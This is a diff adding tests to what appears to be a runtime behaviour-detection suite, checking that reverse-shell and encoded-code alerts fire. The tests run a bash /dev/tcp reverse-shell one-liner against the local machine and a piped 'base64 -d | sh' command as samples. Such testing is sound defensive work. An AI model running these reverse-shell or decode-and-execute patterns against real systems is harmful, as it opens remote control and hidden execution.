@@ -1,5 +1,6 @@
 """test_behaviour: detection rules on real executions: what is done, not what a file holds."""
 import os
+import socket
 import sys
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
@@ -41,6 +42,56 @@ def test_a_policy_can_deny_what_a_rule_tells(t):
     t.denied(box.run(["/bin/sh", "-c", "base64 -d f0VMRgIB"]))
     watch.finding(category=BASE64_ELF, action="denied", rule="no encoded programs")
     t.ran(box.run(["/bin/sh", "-c", "exit 3"]), 3)
+
+
+def own_address():
+    """One of this machine's that is not loopback: connecting to it leaves no machine."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        try:
+            s.connect(("192.0.2.1", 9))
+        except OSError:
+            return None
+        return s.getsockname()[0]
+
+
+def test_a_reverse_shell_is_told_with_its_peer(t):
+    address = own_address()
+    if not address:
+        t.skip("kernel: no address but loopback")
+    box, watch = watched(t)
+    with socket.create_server((address, 0)) as server:
+        port = server.getsockname()[1]
+        box.run(["/bin/bash", "-c", f"/bin/sh -c : >& /dev/tcp/{address}/{port} 0>&1"])
+    found = watch.finding(category="Reverse Shell")
+    t.equal(found.properties["Stdin_Peer"], f"{address}:{port}")
+    t.equal(found.record["finding"]["severity"], "CRITICAL")
+
+
+def test_a_shell_on_loopback_is_none(t):
+    box, watch = watched(t, rules=[lwtest.ALERT_DRIFT])
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        box.run(["/bin/bash", "-c", f"/bin/sh -c : >& /dev/tcp/127.0.0.1/{port} 0>&1"])
+    box.copy("/bin/true", "/tmp/x")
+    t.ran(box.run(["/tmp/x"]))
+    watch.finding(path="/tmp/x")
+    t.equal([f for f in watch.findings if f.properties.get("Detection_Rule_Id")
+             and f.record["finding"]["category"] == "Reverse Shell"], [])
+
+
+def test_encoded_code_in_a_pipe_is_told(t):
+    box, watch = watched(t)
+    box.run(["/bin/bash", "-c", "echo ZXhpdCAwCg== | base64 -d | sh"])
+    watch.finding(category="Command and Control: Piped Encoded Code Execution Detected")
+
+
+def test_an_exception_silences_one_rule_and_no_other(t):
+    silent = [{"name": "ours", "match": {"behaviour": ["BASE64_ELF_FILE_CMDLINE"]}}]
+    box, watch = watched(t, exceptions=silent)
+    box.run(["/bin/sh", "-c", "base64 -d f0VMRgIB"])
+    box.run(["/bin/bash", "-c", "echo ZXhpdCAwCg== | base64 -d | sh"])
+    watch.finding(category="Command and Control: Piped Encoded Code Execution Detected")
+    t.equal([f for f in watch.findings if f.record["finding"]["category"] == BASE64_ELF], [])
 
 
 if __name__ == "__main__":
